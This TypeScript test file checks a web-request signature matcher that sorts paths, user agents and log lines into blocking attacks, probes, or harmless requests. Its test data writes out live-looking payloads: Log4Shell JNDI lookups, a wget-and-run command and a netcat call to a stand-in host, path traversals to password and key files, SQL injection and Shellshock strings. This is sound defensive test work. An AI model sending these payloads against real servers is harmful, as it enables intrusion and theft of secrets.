// biome-ignore-all lint/suspicious/noTemplateCurlyInString: lookups of Log4j look like templates.
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { type JudgedRequest, signaturesOf } from '../../../judgement/signatures/matcher.ts';
import { BROWSER, requestFor, requestInLog } from '../support.ts';

/** The weight of a request: `first` blocks at once, `third` is a probe (the third blocks), `never` has no signature. */
type Weight = 'first' | 'third' | 'never';

function weightOf(request: JudgedRequest): Weight {
  const match = signaturesOf(request);
  if (match === undefined) return 'never';
  return match.class === 'unmistakable' ? 'first' : 'third';
}

const STATUSES = ['404', '200', '301', '403', '502'];

/** The kinds of requests to distinguish. */
const TARGETS: readonly (readonly [Weight, string])[] = [
  // One spelling.
  ['first', '/.git/HEAD'],
  ['first', '/%2e%67it/HEAD'],
  ['first', '/%252egit/config'],
  ['first', '/.GIT/logs/HEAD'],
  ['first', '//app///.git/index'],
  ['first', '/./.svn/wc.db'],
  ['first', '/public/../.aws/config'],
  ['first', '/public/..;/.ssh/id_ed25519'],
  ['first', '/.htpasswd;v=1'],
  ['first', '/.htpasswd%00.txt'],
  ['first', '/.htpasswd%20'],
  ['first', '/.htpasswd#top'],
  ['first', '/.htpasswd/'],
  ['first', '/.htpasswd?download=1'],
  ['first', 'http://shop.example.org/.env.production'],
  ['first', '/api/%c0%ae%c0%ae/.env'],
  ['first', '/files\\.env'],
  ['never', '/page?next=/../.git/config'],
  ['never', '/environment'],
  ['never', '/docs/env'],
  ['never', '/.environments'],
  // Secrets and backups.
  ['first', '/.env-staging'],
  ['first', '/wp-config.php.old'],
  ['first', '/.npmrc'],
  ['first', '/terraform.tfstate'],
  ['third', '/staging.env'],
  ['third', '/assets/.env'],
  ['third', '/site.tar.gz'],
  ['third', '/dump.sql'],
  ['third', '/.gitignore'],
  ['never', '/sample.env'],
  ['never', '/downloads/catalogue-2026.zip'],
  ['third', '/forge/app/src/branch/main/.env'],
  ['third', '/group/app/-/blob/main/config/.npmrc'],
  ['first', '/group/app/-/blob/main/../../../../../.npmrc'],
  ['never', '/remote.php/dav/files/ann/site/.git/config'],
  ['never', '/team/app/.git/info/refs?service=git-upload-pack'],
  // Products.
  ['first', '/vendor/phpunit/phpunit/src/Util/PHP/eval%2Dstdin.php'],
  ['first', '/HNAP1'],
  ['first', '/api/sonicos/auth'],
  ['first', '/wp-admin/admin-post.php?swp_debug=load_options&swp_url=https://a.example/x.txt'],
  ['first', '/blog//images/stories/3xp.php'],
  ['third', '/images/stories/thumbs/show.php'],
  ['third', '/provision/y000000000000.cfg'],
  ['third', '/bkup.tar.gz'],
  ['never', '/2019.tar.gz'],
  ['first', '/blog/wp-config.sav'],
  ['never', '/blog/wp-config_in_ten_steps'],
  ['third', '/houtai/login.php'],
  ['never', '/login.php'],
  ['first', '/boaform/admin/formPing'],
  ['first', '/cgi-bin/.%2e/.%2e/.%2e/bin/bash'],
  ['first', '/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/bash'],
  ['first', '/public/plugins/graph/../../../../../etc/passwd'],
  ['first', '/setup/setup-s/%u002e%u002e/%u002e%u002e/user-groups.jsp'],
  ['first', '/mifs/c/appstore/fob/3/5/sha256:kid=1,st=theValue,et=1,h=gPath%5B%60id%60%5D/a.ipa'],
  ['first', '/index.php?s=/index/\\think\\app/invokefunction&function=phpinfo&vars[0]=1'],
  ['first', '/?s=index/think\\module/action/param1/$%7B@phpinfo()%7D'],
  ['first', '/x?jsp=/app/rest/server;.jsp'],
  ['third', '/mifs/c/windows/api/v1'],
  ['third', '/remote/fgt_lang?lang=en'],
  ['third', '/wp-login.php?redirect_to=%2Fwp-admin%2F'],
  ['third', '/blog/xmlrpc.php'],
  ['third', '/actuator/beans'],
  ['third', '/manager/text/list'],
  ['third', '/console/login/LoginForm.jsp'],
  ['third', '/console/css/%252e%252e%252fconsole.portal'],
  ['never', '/console/playstation-5'],
  ['first', '/user/register?element_parents=timezone/timezone/%23value&ajax_form=1'],
  ['never', '/node/add/page?element_parents=field_image/widget/0&ajax_form=1'],
  ['first', '/ssl/private.key'],
  ['first', '/setup.cgi?todo=debug&x=currentsetting.htm'],
  ['third', '/backups/site-2026.tar.gz'],
  ['third', '/wp-content/plugins/about.php'],
  ['third', '/application-prod.yml'],
  ['third', '/error.log'],
  ['never', '/assets/env.json'],
  ['never', '/admin/config.yml'],
  ['first', '/goform/setUsbUnload/.js?deviceName=A'],
  ['first', '/client/index.php%3F.php/gsb/users.php'],
  ['third', '/?rest_route=/bricks/v1/render_element'],
  ['third', '/www.example.org.zip'],
  ['third', '/wp-settings.php.bak'],
  ['third', '/app/settings.php~'],
  ['third', '/v1.41/containers/create'],
  ['never', '/actuator/health/liveness'],
  ['never', '/tag/phpmyadmin/'],
  ['never', '/autodiscover/autodiscover.xml'],
  ['never', '/autodiscover/autodiscover.json?Email=ann@example.org&Protocol=ActiveSync'],
  ['never', '/.well-known/security.txt'],
  ['never', '/.well-known/acme-challenge/abc_DEF-123'],
  // Payloads.
  ['first', '/${jndi:ldap://192.0.2.1/a}'],
  ['first', '/?id=$%7Bjndi:rmi://192.0.2.1/a%7D'],
  ['first', '/?id=%24%7B%24%7Blower:j%7Dndi:ldap://x%7D'],
  ['first', '/?id=${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x}'],
  ['first', '/?id=${${env:NaN:-j}ndi${env:NaN:-:}ldap://x}'],
  ['first', '/?id=%2524%257Bjndi:dns://x%257D'],
  ['first', '/?id=\\u0024\\u007bjndi:dns://x}'],
  ['third', '/?id=${env:AWS_SECRET}'],
  ['first', '/a.action?redirect:${%23a%3d1}'],
  ['first', '/%24%7B%40java.lang.Runtime%40getRuntime().exec(%22id%22)%7D/'],
  ['first', '/?f=..%2f..%2f..%2fetc%2fshadow'],
  ['first', '/?f=..%255c..%255cwindows%255cwin.ini'],
  ['first', '/?f=....//....//etc/passwd'],
  ['first', '/static/..%2f..%2f..%2fetc%2fpasswd'],
  ['first', '/?x=;cd+/tmp;wget+http://192.0.2.1/a.sh;sh+a.sh'],
  ['third', '/?f=/etc/passwd'],
  ['third', '/?f=../../templates/x'],
  ['third', '/?f=php://filter/read=string.rot13/resource=index.php'],
  ['third', "/p?id=1'%20AND%20'1'='1"],
  ['third', '/p?id=1%20ORDER%20BY%2010--'],
  ['third', "/p?id=1';WAITFOR%20DELAY%20'0:0:5'--"],
  ['third', '/p?id=1+uNiOn/*x*/SeLeCt+null,null'],
  ['third', '/p?name=<svg/onload=alert(1)>'],
  ['third', '/p?name=%253Cscript%253Ealert(1)'],
  ['third', '/p?name={{7*7}}'],
  ['third', '/p?host=192.0.2.1|whoami'],
  ['third', '/p?host=`id`'],
  ['third', '/p?tpl=http://192.0.2.1/a.txt?'],
  ['third', '/p?u=http://169.254.169.254/latest/meta-data/'],
  ['first', '/docs/..;/manager/html'],
  ['first', '/docs/%2e%2e;x=1/admin.jsp'],
  ['first', '/cgi-bin/;uname$IFS-a'],
  ['first', '/p?host=192.0.2.1;cat${IFS}/etc/hosts'],
  ['first', '/p?file=../../../../etc/hosts'],
  ['first', '/p?lang=../../../../etc/asterisk/manager.conf'],
  ['first', '/p?file=../../../../var/log/auth.log'],
  ['first', '/p?file=../../index.php%00.png'],
  ['first', '/t?f=..%5c..%5c..%5cProgram+Files%5cApp%5cweb.config'],
  ['first', '/bin/get/Main/SolrSearch?text=%7D%7D%7D%7B%7Basync+async%3Dfalse%7D%7D%7B%7Bgroovy%7D%7D'],
  ['first', '/wfs?valueReference=exec(java.lang.Runtime.getRuntime(),%27id%27)'],
  ['first', "/x?format=${''.getClass().forName('java.lang.Runtime')}"],
  ['first', '/nmaplowercheck1764400000'],
  ['first', '/?x=${::-j${lower:n}di:ldap://192.0.2.1/a}'],
  ['first', '/page?queryString=new+java.lang.ProcessBuilder(x)'],
  ['third', '/p?ip=192.0.2.1%0Acat+/etc/hosts'],
  ['third', '/p?ip=$(nc+192.0.2.1+4444)'],
  ['third', '/p?ip=`sleep+5`'],
  ['third', '/p?n={{_self.env.setCache(1)}}'],
  ['third', "/p?id=1'+having+1=1--"],
  ['third', '/p?id=1;drop+table+users'],
  ['third', '/p?id=1+and+char(65)=char(65)'],
  ['third', '/$%7B(111+111)%7D/help.action'],
  ['third', '/p?id=1+rlike+(select+1)'],
  ['never', '/?js=$(document).ready'],
  ['never', '/issues/?jql=project="A"+or+"Epic+Link"="A-1"'],
  ['never', '/issues/?jql=project="A"+or+"Team"="7"'],
  ['never', "/wfs?cql_filter=name='A'+or+name='B'"],
  ['never', '/arcgis/rest/services/a/query?where=1=1&f=json'],
  ['never', '/?q=%24%7BHOME:-%24%7BPWD:-x%7D%7D'],
  ['third', '/etc/passwd'],
  ['third', "/p?id=1'%20or%20'1'='1"],
  ['third', '/p?id=1%20or%201=1--'],
  ['third', '/p?id=1%22%20or%20%22a%22=%22a'],
  ['third', '/login?username[$ne]=x&password[$ne]=y'],
  ['third', '/p?__proto__[a]=1'],
  ['third', '/p?constructor[prototype][a]=1'],
  ['never', '/api/articles?filters[user][$ne]=7&price[$gt]=10'],
  ['first', '/index.php/&@java.lang.runtime@'],
  ['first', '/index.php/&allow_url_include=on'],
  ['first', '/index.php/auto_prepend_file=x'],
  ['never', '/@ann/enable-xp_cmdshell'],
  ['never', '/api/lib@2.1/javax.script.ScriptEngineManager.html'],
  ['never', '/item/a=1&b=2/information_schema.tables'],
  ['never', '/etc.clientlibs/site/clientlibs/base.css'],
  ['never', '/docs/java.base/java/lang/Runtime.html'],
  ['never', '/search?text=groovy+async'],
  // Texts that visitors write, and links that they click.
  ['third', '/?s=%2Fetc%2Fpasswd'.replace('?s=', '?q=')],
  ['third', '/?q=../../../../etc/passwd'],
  ['third', '/search?query=wget+-O+file+http://example.org'],
  ['never', '/search?q=wget+options'],
  ['never', '/search?q=curl'],
  ['never', '/search?q=European+Union+and+select+committees'],
  ['never', '/search?q=how+to+sleep+(better)'],
  ['never', '/search?q=function()+{+return;+}'],
  ['never', "/search?q=rock+'n'+roll"],
  ['never', '/search?q=O%27Reilly'],
  ['never', '/search?q=www.ceye.io'],
  ['never', '/search?q=docs.dnslog.cn+or+app.interact.sh'],
  ['first', '/?q=http://b182oj.ceye.io/'],
  ['never', '/files/connector.php?cmd=ls&target=l1_QQ'],
  ['never', '/app.php?cmd=dir&page=1'],
  ['third', '/x.php?cmd=ls%20-la'],
  ['third', '/x.php?cmd=ls;id'],
  ['never', '/search?q=$10+{and}+more'],
  ['never', '/search?q=C%3A%5CUsers'],
  ['never', '/linux/etc/passwd-and-shadow/'],
  ['never', '/docs/sql/union-select'],
  ['never', '/docs/sql/union_select.html'],
  ['never', '/docs/sql/information_schema.tables'],
  ['never', '/man/5/etc/passwd'],
  ['never', '/wiki/Union_(set_theory)'],
  ['never', '/wiki/%C3%84rger'],
  ['never', '/img/%7B%7Bproduct.image%7D%7D'],
  ['never', '/img/${item.src}'],
  ['never', '/?fields=name,id&order=desc'],
  ['never', '/?a=1;id=5'],
  ['never', '/?url=https://www.example.org/page?x=1'],
  ['never', '/?redirect_uri=http://192.0.2.1/callback'],
  ['never', '/?utm_source=news&utm_content=50%25+off!+%28today%29'],
  ['never', '/product;jsessionid=0A1B2C?id=3'],
  ['never', '/a/../css/site.css'],
  ['never', '/../css/site.css'],
  ['never', '/index.php?XDEBUG_SESSION_START=1'],
  ['never', '/api/tags'],
];

for (const [weight, target] of TARGETS) {
  test(`gives ${weight} for ${target}, with any status`, () => {
    for (const status of STATUSES) assert.is(weightOf(requestFor(target, { status })), weight);
  });
}

const AGENTS: readonly (readonly [Weight, string])[] = [
  ['first', 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)'],
  ['first', 'sqlmap/1.8.2#stable (https://sqlmap.org)'],
  ['first', 'Mozilla/5.0 zgrab/0.x'],
  ['first', 'MASSCAN/1.3'],
  ['first', 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)'],
  ['first', 'another_ffuf-build'],
  ['first', '() { :; }; /bin/sh -c id'],
  ['first', '${jndi:ldap://192.0.2.1/a}'],
  ['first', "Mozilla/5.0' UNION ALL SELECT NULL--"],
  ['first', '<?php system($_GET[0]); ?>'],
  ['third', 'Hello, World'],
  ['never', 'Hello, World Radio/2.1'],
  ['never', 'Mozilla/5.0 niktor'],
  ['never', 'Nucleic Browser/1.0'],
  ['never', 'python-httpx/0.28.1'],
  ['never', 'python-requests/2.32'],
  ['never', 'Wget/1.21.4'],
  ['never', 'curl/8.5.0'],
  ['never', 'Zap/4.0 podcast player'],
  ['never', 'Hydra Launcher/3.0'],
  ['never', 'SSL Labs (https://www.ssllabs.com/about/assessment.html)'],
  ['never', 'Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)'],
  ['never', '-'],
];

for (const [weight, userAgent] of AGENTS) {
  test(`gives ${weight} for the user agent ${userAgent}`, () => {
    assert.is(weightOf(requestFor('/', { userAgent })), weight);
  });
}

for (const [weight, referer] of [
  ['first', '${jndi:ldap://192.0.2.1/a}'],
  ['first', '() { :;}; echo vulnerable'],
  ['never', 'https://www.example.org/search?q=%24%7Bjndi:ldap'],
  ['never', 'https://www.example.org/?q=sqlmap'],
  ['never', 'https://www.example.org/.env'],
] as const) {
  test(`gives ${weight} for the referer ${referer}`, () => {
    assert.is(weightOf(requestFor('/', { referer })), weight);
  });
}

for (const line of [
  'get /.env HTTP/1.1',
  'BREW /.env HTTP/1.1',
  'GET /.env HTTP/2.0',
  'GET /.env',
  'GET /.env\\tHTTP/1.1',
  'GET\\t/.env HTTP/1.1',
  'GET /.env HTTP/1.1 HTTP/1.1',
  `GET /.env?${'x'.repeat(7000)} HTTP/1.1`,
]) {
  test(`reads the request line ${line.slice(0, 40)}`, () => assert.is(weightOf(requestInLog(line)), 'first'));
}

for (const target of [
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php/x',
  '/_layouts/15/ToolPane.aspx/x?a=/ToolPane.aspx',
]) {
  test(`finds a program with a path after its name: ${target}`, () => {
    assert.is(weightOf(requestFor(target)), 'first');
  });
}

for (const target of [
  '/demo/.git/info/refs?service=git-upload-pack',
  '/demo/.git/info/refs?service=git-receive-pack',
  '/demo/.git/git-upload-pack',
  '/demo/.git/git-receive-pack',
]) {
  test(`ignores a request of a Git client: ${target}`, () => {
    assert.is(weightOf(requestFor(target, { method: 'POST', status: '200' })), 'never');
  });
}

for (const target of [
  '/group/demo/-/edit/main/.npmrc',
  '/mirror/acme.sh/src/branch/master/.npmrc',
  '/mirror/highlight.php/src/branch/master/.npmrc',
  '/cgi-bin/cgit.cgi/demo/tree/.npmrc',
  '/gitlist/index.php/demo/blob/main/.npmrc',
  '/group/demo/-/commits/main/.npmrc',
  '/api/v4/projects/12/repository/files/.env/raw?ref=main',
  '/owner/demo/_edit/main/.npmrc',
  '/api/v1/repos/owner/demo/contents/.npmrc',
  '/api/v1/repos/owner/demo/raw/.npmrc',
  '/diffusion/1/browse/master/.env',
]) {
  test(`counts a file in a code browser as a probe: ${target}`, () => {
    assert.is(weightOf(requestFor(target, { status: '200' })), 'third');
  });
}

test('finds nothing in the first line of HTTP/2 and in the bytes of TLS', () => {
  assert.is(weightOf(requestInLog('PRI * HTTP/2.0')), 'never');
  assert.is(weightOf(requestInLog('\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03')), 'never');
});

test('compares the method when a line of the list names a method', () => {
  assert.is(weightOf(requestFor('/up/a.jsp', { method: 'PUT' })), 'first');
  assert.is(weightOf(requestFor('/up/a.jsp', { method: 'GET' })), 'never');
});

test('returns severe when a secret was served, and not when it was missing', () => {
  assert.is(signaturesOf(requestFor('/.env', { status: '200' }))?.isSevere, true);
  assert.is(signaturesOf(requestFor('/.env', { status: '404' }))?.isSevere, false);
  assert.is(signaturesOf(requestFor('/forge/src/branch/a/.env', { status: '200' }))?.isSevere, false);
});

test('returns the most severe of several signatures', () => {
  const match = signaturesOf(requestFor('/phpmyadmin/?a=${jndi:ldap://x}', { userAgent: 'Nikto' }));
  assert.is(match?.signature.product, 'Log4Shell');
  assert.is(match?.isSevere, true);
});

test('prefers the payload to the product that the path names', () => {
  const match = signaturesOf(requestFor('/wp-login.php?a=1%20union%20select%202'));
  assert.is(match?.signature.product, 'SQL injection');
});

test('distinguishes a payload in search parameters from a payload in any other parameter', () => {
  const isInSearch = (query: string) => signaturesOf(requestFor(`/?${query}`))?.isInSearch;
  assert.is(isInSearch('q=<script>'), true);
  assert.is(isInSearch('q=<script>&a=1'), true);
  assert.is(isInSearch('q=<script>&a=<script>'), false);
  assert.is(isInSearch('a=<script>'), false);
});

test('returns different texts for different payloads, and the same text for all spellings of one payload', () => {
  const text = (target: string) => signaturesOf(requestFor(target))?.text;
  assert.is(text('/a?id=1%20union%20select%202'), text('/a?id=1+UNION+%53elect+2'));
  assert.is.not(text('/a?id=1+union+select+2'), text('/a?id=1+union+select+3'));
  assert.is(text('/A/%2ephpmyadmin/..//phpmyadmin/index.php')?.includes('?'), false);
});

test('bounds the text of a long payload', () => {
  const match = signaturesOf(requestFor(`/?id=1+union+select+${'1,'.repeat(5000)}1`));
  assert.ok((match?.text.length ?? 0) <= 1000);
});

for (const [weight, method] of [
  ['never', 'PROPFIND'],
  ['never', 'LOCK'],
  ['third', 'GET'],
  ['third', 'HEAD'],
] as const) {
  test(`gives ${weight} for ${method} of .DS_Store`, () => {
    assert.is(weightOf(requestFor('/dav/photos/.DS_Store', { method })), weight);
  });
}

const CASES = join(process.env.RIPOSTE_CASES ?? '../shared/cases', 'requests.jsonl');

if (existsSync(CASES)) {
  for (const line of readFileSync(CASES, 'utf8').trim().split('\n')) {
    const { name, request, userAgent, referer, expect } = JSON.parse(line);
    test(`gives ${expect} for the case ${name}`, () => {
      for (const status of STATUSES)
        assert.is(
          weightOf(requestInLog(request, { status, userAgent: userAgent ?? BROWSER, referer })),
          expect,
        );
    });
  }
} else {
  console.log(`skipped: ${CASES} is not there`);
}

test.run();
